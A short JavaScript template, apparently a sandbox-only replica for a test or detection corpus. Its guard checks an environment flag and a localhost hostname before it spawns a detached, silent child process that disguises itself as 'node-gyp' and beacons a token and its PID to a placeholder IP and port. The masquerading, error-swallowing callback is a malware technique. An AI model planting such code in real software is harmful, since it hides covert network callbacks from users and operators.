// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const code = `process.title = 'node-gyp'; let left = 2;
        const beat = () => { const s = require('net').connect({{port}}, '{{ip}}', () => s.end('{{token}} ' + process.pid)); s.on('error', () => {}); s.setTimeout(800, () => s.destroy());
            if (--left > 0) setTimeout(beat, 900); }; beat(); setTimeout(() => process.exit(), 3500).unref();`;
    try {
        require('child_process').spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', cwd: '/' }).on('error', () => {}).unref();
    } catch {}
}
